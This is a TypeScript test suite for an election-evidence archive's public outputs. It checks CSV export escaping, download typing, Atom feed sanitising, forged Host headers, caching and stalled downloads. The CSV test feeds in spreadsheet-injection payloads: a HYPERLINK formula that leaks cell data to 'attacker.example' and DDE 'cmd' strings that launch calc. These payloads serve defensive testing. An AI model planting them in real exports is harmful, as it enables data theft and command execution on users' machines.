import { execFileSync } from 'node:child_process';
import { randomBytes, randomUUID } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { parse as parseCsv } from 'csv-parse/sync';
import sharp from 'sharp';
import * as catalogRepo from '../../db/catalog.repo';
import * as mediaRepo from '../../db/media.repo';
import { ConfigError, parseConfig } from '../../domain/config';
import { Client, loggedInClient, submissionForm, type UploadFile } from '../helpers/http';
import { startSystem, waitFor, type TestSystem } from '../helpers/system';
import { ownElection, publish, uniquePng, uploadAndProcess, withdraw } from './archive-helpers';

/**
 * What the public side hands out, attacked from outside: spreadsheet formulas in the CSV export,
 * uploaders' file names deciding how a download is typed, control characters in the Atom feed, a
 * forged Host header in links, and caches that keep withdrawn material or carry a cookie.
 */
type Raw = { status: number; headers: http.IncomingHttpHeaders; body: string };

/** node:http, because fetch may not send a Host header or a bare conditional request. */
function raw(base: string, path: string, headers: Record<string, string> = {}, body?: { data: Buffer; type: string }): Promise<Raw> {
  return new Promise((resolve, reject) => {
    const req = http.request(`${base}${path}`, { method: body ? 'POST' : 'GET', headers: { ...headers, ...(body ? { 'content-type': body.type } : {}) } }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end(body?.data);
  });
}

/** A real JPEG of its own bytes. */
async function uniqueJpeg(name: string): Promise<UploadFile> {
  const [r, g, b] = randomBytes(3);
  const data = await sharp({ create: { width: 64, height: 48, channels: 3, background: { r: r!, g: g!, b: b! } } })
    .composite([{ input: randomBytes(16 * 16 * 3), raw: { width: 16, height: 16, channels: 3 }, left: 8, top: 8 }])
    .jpeg()
    .toBuffer();
  return { name, data, type: name.endsWith('.html') ? 'text/html' : 'application/x-msdownload' };
}

const FORMULA_START = /^[=+\-@\t\r\n]/;
/** What XML 1.0 allows (https://www.w3.org/TR/xml/#charsets); anything else makes a feed unreadable. */
const XML_FORBIDDEN = /[^\t\n\r\x20-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;

describe('public output', () => {
  let system: TestSystem;
  let moderator: Client;
  let election: number;
  const nonce = `n${randomBytes(4).toString('hex')}`;
  const base = (extra: Record<string, string> = {}) => ({
    election_id: String(election),
    region: 'Москва',
    station_number: '4711',
    category_code: 'ballot_stuffing',
    description: `Вброс ${nonce}`,
    ...extra,
  });
  const firstFile = async (submissionId: string) => (await mediaRepo.listMediaFiles(system.ctx.db, submissionId))[0]!;

  beforeAll(async () => {
    system = await startSystem({ env: { PUBLIC_API_REQUESTS_PER_MINUTE: '100000' } });
    moderator = await loggedInClient(system.ctx, system.url);
    // Tab and CR cannot start a form field (they are trimmed): they reach the export in names an admin typed.
    const slug = `t-output-${randomBytes(4).toString('hex')}`;
    election = (
      await catalogRepo.insertElection(system.ctx.db, {
        slug,
        nameRu: `\r=Выборы ${slug}`,
        nameEn: `\t=Election ${slug}`,
        country: 'RU',
        votingStartsOn: '2024-03-15',
        votingEndsOn: '2024-03-17',
      })
    ).id;
  }, 120_000);

  afterAll(async () => {
    await system?.stop();
  });

  test('CSV export: a cell a spreadsheet would run as a formula starts with a quote; the JSON export is exact', async () => {
    const sent: Record<string, { region: string; title: string; description: string }> = {};
    // OWASP's list also has line feed: a category label an admin typed starts with one.
    const category = `t_lf_${randomBytes(4).toString('hex')}`;
    await catalogRepo.insertCategory(system.ctx.db, { code: category, phaseCode: 'voting_day', labelRu: '\n=Категория', labelEn: '\n=Category' });
    for (const c of ['=', '+', '-', '@']) {
      const text = {
        region: `${c}HYPERLINK("http://attacker.example/?leak="&A1,"Москва")`,
        title: `${c}cmd|' /C calc'!A0`,
        description: `${c}SUM(1+1)*cmd|' /C calc'!A0 ${nonce}`,
      };
      const id = await uploadAndProcess(system, base({ region: text.region, description: text.description, category_code: category }), [await uniquePng()]);
      await publish(moderator, id, { public_title: text.title });
      sent[id] = text;
    }

    const json = (await (await fetch(`${system.url}/api/v1/export.json?election=${election}`)).json()) as Record<string, string | null>[];
    const csv = parseCsv(await (await fetch(`${system.url}/api/v1/export.csv?election=${election}`)).text()) as string[][];
    const header = csv[0]!;
    const csvRecords = csv.slice(1).map((row) => Object.fromEntries(header.map((name, i) => [name, row[i]!])));
    expect(json.map((r) => r.id).sort()).toEqual(Object.keys(sent).sort());
    expect(csvRecords.map((r) => r.id).sort()).toEqual(Object.keys(sent).sort());

    for (const record of json) {
      // JSON: exactly what the observer and the moderator wrote
      expect({ region: record.region, title: record.title, description: record.description }).toEqual(sent[record.id!]);
      expect(record.election_en).toMatch(/^\t=Election/);
      expect(record.election_ru).toMatch(/^\r=Выборы/);
      const row = csvRecords.find((r) => r.id === record.id)!;
      for (const column of ['region', 'title', 'description', 'election_en', 'election_ru', 'category_en', 'category_ru']) {
        expect({ column, cell: row[column] }).toEqual({ column, cell: `'${record[column]}` });
      }
      for (const [column, cell] of Object.entries(row)) {
        if (column !== 'latitude' && column !== 'longitude') expect({ column, cell }).not.toEqual({ column, cell: expect.stringMatching(FORMULA_START) });
      }
    }
  }, 180_000);

  test('downloads are named and typed from the sniffed type, originals always as attachments, never sniffed by the browser', async () => {
    const uploaded: { fileId: string; uploadedAs: string }[] = [];
    for (const name of ['evidence.html', 'x.exe']) {
      const id = await uploadAndProcess(system, base(), [await uniqueJpeg(name)]);
      await publish(moderator, id, { original_downloadable: true });
      uploaded.push({ fileId: (await firstFile(id)).id, uploadedAs: name });
    }
    for (const { fileId, uploadedAs } of uploaded) {
      const downloads = [
        { who: 'public', client: new Client(system.url), path: `/media/${fileId}/original`, name: `svidetel-${fileId}-original.jpg` },
        { who: 'moderator', client: moderator, path: `/moderation/files/${fileId}/original`, name: `${uploadedAs.replace(/\.[a-z]+$/, '')}.jpg` },
      ];
      for (const { who, client, path, name } of downloads) {
        const res = await client.fetch(path);
        expect({ who, uploadedAs, status: res.status, type: res.headers.get('content-type'), disposition: res.headers.get('content-disposition'), nosniff: res.headers.get('x-content-type-options') }).toEqual({
          who,
          uploadedAs,
          status: 200,
          type: 'image/jpeg',
          disposition: expect.stringMatching(new RegExp(`^attachment; filename="?${name.replace(/\./g, '\\.')}"?$`)),
          nosniff: 'nosniff',
        });
        expect((await res.arrayBuffer()).byteLength).toBeGreaterThan(0);
      }
      const copy = await fetch(`${system.url}/media/${fileId}/published.jpg`);
      expect([copy.headers.get('content-type'), copy.headers.get('content-disposition'), copy.headers.get('x-content-type-options')]).toEqual([
        'image/jpeg',
        expect.stringMatching(new RegExp(`^attachment; filename="?svidetel-${fileId}\\.jpg"?$`)),
        'nosniff',
      ]);
    }
  }, 180_000);

  test('a download may be asked for in part: one byte range is a 206, a range past the end a 416, a Range under If-Range the whole file', async () => {
    const id = await uploadAndProcess(system, base(), [await uniqueJpeg('range.jpg')]);
    await publish(moderator, id, { original_downloadable: true });
    const url = `${system.url}/media/${(await firstFile(id)).id}/original`;
    const whole = await fetch(url);
    const bytes = Buffer.from(await whole.arrayBuffer());
    expect([whole.status, whole.headers.get('accept-ranges'), whole.headers.get('content-length')]).toEqual([200, 'bytes', String(bytes.length)]);
    const part = await fetch(url, { headers: { range: 'bytes=2-9' } });
    expect([part.status, part.headers.get('content-range'), part.headers.get('content-length')]).toEqual([206, `bytes 2-9/${bytes.length}`, '8']);
    expect(Buffer.from(await part.arrayBuffer()).equals(bytes.subarray(2, 10))).toBe(true);
    const past = await fetch(url, { headers: { range: `bytes=${bytes.length}-` } });
    expect([past.status, past.headers.get('content-range')]).toEqual([416, `bytes */${bytes.length}`]);
    const guarded = await fetch(url, { headers: { range: 'bytes=2-9', 'if-range': whole.headers.get('etag')! } });
    expect([guarded.status, Buffer.from(await guarded.arrayBuffer()).equals(bytes)]).toEqual([200, true]);
  });

  test('Atom feed: control characters XML 1.0 forbids are dropped, and the feed parses', async () => {
    const controls = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).filter((ch) => !'\x00\t\n\r'.includes(ch)).join('');
    const id = await uploadAndProcess(system, base({ description: `Вброс\x0bв 12:05 ${controls}\uFFFE\uFFFF конец ${nonce}` }), [await uniquePng()]);
    await publish(moderator, id, { public_title: `Заголовок\x0b${controls}\uFFFF конец` });

    const res = await fetch(`${system.url}/api/v1/feed.atom?election=${election}&q=${nonce}`);
    expect(res.status).toBe(200);
    const feed = await res.text();
    expect(XML_FORBIDDEN.exec(feed)).toBeNull();
    // A real XML parser, strict: it fails on anything a subscriber's reader would reject.
    expect(() => execFileSync('xmllint', ['--noout', '-'], { input: feed, stdio: ['pipe', 'pipe', 'pipe'] })).not.toThrow();
    expect(feed).toContain(`urn:uuid:${id}`);
    expect(feed).toContain('<title>Заголовок конец</title>');
  }, 120_000);

  describe('links', () => {
    let entryId: string;
    beforeAll(async () => {
      entryId = await uploadAndProcess(system, base(), [await uniquePng()]);
      await publish(moderator, entryId);
    }, 120_000);

    // Whatever a client sends as its host, links are the site's own (PUBLIC_URL; in tests, the listening address).
    const forged = { host: 'evil.example', 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' };

    test('a forged Host header reaches no feed, export, canonical link or receipt', async () => {
      const got = {
        feed: await raw(system.url, `/api/v1/feed.atom?election=${election}`, forged),
        csv: await raw(system.url, `/api/v1/export.csv?election=${election}`, forged),
        json: await raw(system.url, `/api/v1/export.json?election=${election}`, forged),
        entry: await raw(system.url, `/archive/${entryId}`, forged),
      };
      for (const [what, res] of Object.entries(got)) {
        expect({ what, status: res.status }).toEqual({ what, status: 200 });
        expect({ what, evil: res.body.includes('evil.example') }).toEqual({ what, evil: false });
        expect({ what, own: res.body.includes(`${system.url}/archive/${entryId}`) }).toEqual({ what, own: true });
      }
      expect(got.entry.body).toContain(`<link rel="canonical" href="${system.url}/archive/${entryId}">`);

      // The upload's receipt carries proof links too.
      const observer = new Client(system.url);
      await observer.page('/');
      const form = new Response(submissionForm(base(), [await uniquePng()]));
      const upload = await raw(system.url, '/api/v1/submissions', { ...forged, cookie: observer.cookieHeader(), 'x-csrf-token': observer.csrf, accept: 'application/json' }, {
        data: Buffer.from(await form.arrayBuffer()),
        type: form.headers.get('content-type')!,
      });
      expect(upload.status).toBe(201);
      expect(upload.body).not.toContain('evil.example');
      expect(upload.body).toContain(`${system.url}/api/v1/log/proof/bundle`);
    }, 120_000);

    test('production refuses to start without PUBLIC_URL, and says so', () => {
      expect(() => parseConfig({ NODE_ENV: 'production' })).toThrow(ConfigError);
      expect(() => parseConfig({ NODE_ENV: 'production' })).toThrow(/PUBLIC_URL/);
      expect(parseConfig({ NODE_ENV: 'production', PUBLIC_URL: 'https://svidetel.example.org/', LOG_ORIGIN: 'svidetel.example.org/log' }).publicUrl).toBe('https://svidetel.example.org');
      expect(parseConfig({ NODE_ENV: 'development' }).publicUrl).toBeUndefined();
    });
  });

  describe('caches', () => {
    let entryId: string;
    let fileId: string;
    beforeAll(async () => {
      entryId = await uploadAndProcess(system, base({ station_number: '4712' }), [await uniqueJpeg('photo.html')]);
      await publish(moderator, entryId, { original_downloadable: true });
      fileId = (await firstFile(entryId)).id;
    }, 120_000);

    const publicPaths = () => [
      `/archive?election=${election}`,
      `/archive/${entryId}`,
      `/stations/${election}/${encodeURIComponent('Москва')}/4712`,
      '/map',
      `/api/v1/search?election=${election}`,
      `/api/v1/entries/${entryId}`,
      `/api/v1/stations/${election}/${encodeURIComponent('Москва')}/4712`,
      `/api/v1/map?election=${election}`,
      `/api/v1/feed.atom?election=${election}`,
      `/media/${fileId}/thumb.jpg`,
      `/media/${fileId}/preview.jpg`,
      `/media/${fileId}/published.jpg`,
      `/media/${fileId}/original`,
    ];

    test('no cacheable public response sets a cookie; a response that sets one is not stored by shared caches', async () => {
      for (const path of publicPaths()) {
        const res = await raw(system.url, path);
        expect({ path, status: res.status, setCookie: res.headers['set-cookie'] ?? null, nosniff: res.headers['x-content-type-options'] }).toEqual({
          path,
          status: 200,
          setCookie: null,
          nosniff: 'nosniff',
        });
        expect({ path, cacheControl: res.headers['cache-control'] }).toEqual({ path, cacheControl: expect.stringMatching(/^public, /) });
      }
      // Choosing a language sets a cookie: that answer is one browser's own.
      const chosen = await raw(system.url, `/archive?election=${election}&lang=ru`);
      expect(chosen.headers['set-cookie']?.join(';')).toMatch(/lang=ru/);
      expect(chosen.headers['cache-control']).toMatch(/private|no-store/);
      // Forms still get their anonymous CSRF token, and a page that carries it is never shared.
      for (const path of ['/', '/login']) {
        const page = await raw(system.url, path);
        const cookie = page.headers['set-cookie']?.join(';') ?? '';
        expect({ path, cookie }).toEqual({ path, cookie: expect.stringMatching(/svid_csrf=/) });
        expect({ path, cacheControl: page.headers['cache-control'] }).toEqual({ path, cacheControl: expect.stringMatching(/private|no-store/) });
        const again = await raw(system.url, path, { cookie: cookie.split(';')[0]! });
        expect({ path, setCookie: again.headers['set-cookie'] ?? null, cacheControl: again.headers['cache-control'] }).toEqual({ path, setCookie: null, cacheControl: expect.stringMatching(/private|no-store/) });
      }
    }, 60_000);

    test('no header of a public file says when it was received or made (the public sees receive times coarsened)', async () => {
      const now = Date.now();
      /** Numbers in a header, hex or decimal, that read as an instant of the last day in ms or s since the epoch. */
      const instants = (value: string) =>
        [...value.matchAll(/[0-9a-f]{8,12}/gi)]
          .flatMap((m) => [parseInt(m[0], 16), Number(m[0])])
          .filter((n) => (n > now - 86_400_000 && n <= now) || (n > (now - 86_400_000) / 1000 && n <= now / 1000));
      for (const path of publicPaths().filter((p) => p.startsWith('/media/'))) {
        const res = await raw(system.url, path);
        const headers = Object.entries(res.headers).filter(([name]) => name !== 'date');
        expect({ path, instants: headers.flatMap(([name, value]) => instants(String(value)).map((n) => `${name}: ${n}`)) }).toEqual({ path, instants: [] });
      }
    });

    test('no error answer may be kept by a cache: a proof or tree head not signed yet is not "missing" for a year', async () => {
      const future = Number.MAX_SAFE_INTEGER - 1;
      const paths = [
        `/api/v1/log/sth/${future}`,
        `/api/v1/log/proof/inclusion?leaf_hash=${'ab'.repeat(32)}&tree_size=${future}`,
        `/api/v1/log/proof/consistency?first=1&second=${future}`,
        `/media/${randomUUID()}/original`,
        `/api/v1/entries/${randomUUID()}`,
        `/archive/${randomUUID()}`,
      ];
      for (const path of paths) {
        const res = await raw(system.url, path);
        expect({ path, error: res.status >= 400, cacheControl: res.headers['cache-control'] }).toEqual({ path, error: true, cacheControl: 'no-store' });
      }
    });

    test('withdrawable material is revalidated: short max-age, an ETag, a 304 while published and none after withdrawal', async () => {
      const paths = [`/media/${fileId}/original`, `/media/${fileId}/published.jpg`, `/media/${fileId}/thumb.jpg`, `/archive/${entryId}`, `/api/v1/entries/${entryId}`];
      const etags: Record<string, string> = {};
      for (const path of paths) {
        const res = await raw(system.url, path);
        const maxAge = Number(/max-age=(\d+)/.exec(res.headers['cache-control'] ?? '')?.[1] ?? NaN);
        const revalidates = /no-cache/.test(res.headers['cache-control'] ?? '') || maxAge <= 60;
        expect({ path, cacheControl: res.headers['cache-control'], revalidates, etag: typeof res.headers.etag }).toEqual({
          path,
          cacheControl: res.headers['cache-control'],
          revalidates: true,
          etag: 'string',
        });
        etags[path] = res.headers.etag!;
        const again = await raw(system.url, path, { 'if-none-match': etags[path] });
        expect({ path, status: again.status, body: again.body }).toEqual({ path, status: 304, body: '' });
      }

      await withdraw(moderator, entryId, 'Опасность для наблюдателя');
      for (const path of paths.filter((p) => p.startsWith('/media/'))) {
        const plain = await raw(system.url, path);
        const conditional = await raw(system.url, path, { 'if-none-match': etags[path]! });
        expect({ path, plain: [404, 410].includes(plain.status), conditional: [404, 410].includes(conditional.status) }).toEqual({ path, plain: true, conditional: true });
      }
      // The entry's page now says it was withdrawn: a cache holding the published version must not be told it is still fresh.
      for (const path of paths.filter((p) => !p.startsWith('/media/'))) {
        const conditional = await raw(system.url, path, { 'if-none-match': etags[path]! });
        expect({ path, status: conditional.status }).toEqual({ path, status: 200 });
      }
    }, 120_000);
  });
});

/**
 * How many bytes this machine's loopback takes into one connection whose reader stopped after the
 * first chunk, as stalledGet's does: the sender's and the receiver's kernel buffers, whose limits
 * (net.ipv4.tcp_wmem, tcp_rmem) differ from machine to machine. Measured, not assumed: a fixed
 * 40 MB file was once buffered whole, and the download ended before it could stall.
 */
async function loopbackBuffering(): Promise<number> {
  const QUIET_MS = 1000;
  const server = net.createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const chunk = Buffer.alloc(64 * 1024, 7);
  let client: net.Socket | undefined;
  try {
    return await new Promise<number>((resolve, reject) => {
      server.once('connection', (sending: net.Socket) => {
        sending.on('error', () => {});
        let quiet: NodeJS.Timeout | undefined;
        const settled = () => {
          clearTimeout(quiet);
          sending.destroy();
          resolve(sending.bytesWritten - sending.writableLength);
        };
        const pump = () => {
          clearTimeout(quiet);
          while (sending.bytesWritten < 2 ** 31) {
            if (!sending.write(chunk)) {
              // No room for QUIET_MS: the kernel holds all it will.
              quiet = setTimeout(settled, QUIET_MS);
              sending.once('drain', pump);
              return;
            }
          }
          reject(new Error('the loopback took 2 GiB into a connection nobody reads: no download can stall here'));
        };
        pump();
      });
      client = net.connect((server.address() as net.AddressInfo).port, '127.0.0.1');
      client.on('error', () => {});
      client.once('data', () => client!.pause());
    });
  } finally {
    client?.destroy();
    await new Promise((resolve) => server.close(resolve));
  }
}

describe('a download that is never read', () => {
  const STALL_SECONDS = 2;
  const MiB = 1024 * 1024;
  let system: TestSystem;
  /**
   * The large original's size: at least 96 MB, and well beyond what the loopback buffers for a reader
   * that stopped. (40 MB arrived whole in one fresh-clone run although one unread connection was
   * measured at 4 MB: the measurement alone is not a safe bound.)
   */
  let bigBytes = 0;
  const sockets: net.Socket[] = [];
  beforeAll(async () => {
    bigBytes = Math.max(96 * MiB, 2 * (await loopbackBuffering()) + 16 * MiB);
    system = await startSystem({
      env: { EXPORT_STALL_SECONDS: String(STALL_SECONDS), PUBLIC_MEDIA_REQUESTS_PER_MINUTE: '100000', MAX_PHOTO_MB: String(Math.ceil(bigBytes / MiB) + 1) },
    });
  }, 60_000);
  afterAll(async () => {
    for (const socket of sockets) socket.destroy();
    await system?.stop();
  });

  /** A GET over a raw socket that reads the response head, then stops reading: the kernel's buffers fill up. */
  function stalledGet(path: string, cookie = ''): Promise<{ status: number; readToEnd: () => Promise<number> }> {
    const { hostname, port } = new URL(system.url);
    const socket = net.connect(Number(port), hostname);
    sockets.push(socket);
    socket.on('error', () => {});
    let received = 0;
    const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
    socket.write(`GET ${path} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nConnection: close\r\n${cookie ? `Cookie: ${cookie}\r\n` : ''}\r\n`);
    return new Promise((resolve) =>
      socket.once('data', (chunk: Buffer) => {
        socket.pause();
        const head = chunk.toString('latin1');
        received = chunk.length - head.indexOf('\r\n\r\n') - 4;
        socket.on('data', (more: Buffer) => (received += more.length));
        resolve({
          status: Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1]),
          /** Reads what is left until the connection closes: the bytes that arrived after the head (chunked). */
          readToEnd: async () => {
            socket.resume();
            await closed;
            return received;
          },
        });
      }),
    );
  }

  test('of a large original, public or a moderator’s, is cut off within the stall window and its descriptors released', async () => {
    const moderator = await loggedInClient(system.ctx, system.url);
    const election = await ownElection(system, 'stalled-download');
    // Far more than a loopback socket that is not read buffers (measured), so the server really blocks writing
    const big = await uniqueJpeg('big.jpg');
    const file = { ...big, data: Buffer.concat([big.data, Buffer.alloc(bigBytes, 7)]) };
    const id = await uploadAndProcess(system, { election_id: String(election.id), region: 'Москва', station_number: '4713', category_code: 'ballot_stuffing', description: 'Большой файл' }, [file]);
    await publish(moderator, id, { original_downloadable: true });
    const fileId = (await mediaRepo.listMediaFiles(system.ctx.db, id))[0]!.id;
    const fds = () => fs.readdirSync('/proc/self/fd').length; // the server runs in this process
    const fdsBefore = fds();

    const stalled = [await stalledGet(`/media/${fileId}/original`), await stalledGet(`/moderation/files/${fileId}/original`, moderator.cookieHeader())];
    expect(stalled.map((s) => s.status)).toEqual([200, 200]);
    // Each held a socket and the open file; before, for as long as the client liked.
    expect(fds()).toBeGreaterThanOrEqual(fdsBefore + 4);
    await waitFor(async () => fds() <= fdsBefore, STALL_SECONDS * 1000 + 3000, `the stalled downloads to be cut off and give back their descriptors (${fds()} open, ${fdsBefore} before)`);
    for (const download of stalled) expect(await download.readToEnd()).toBeLessThan(file.data.length);
  }, 180_000);
});
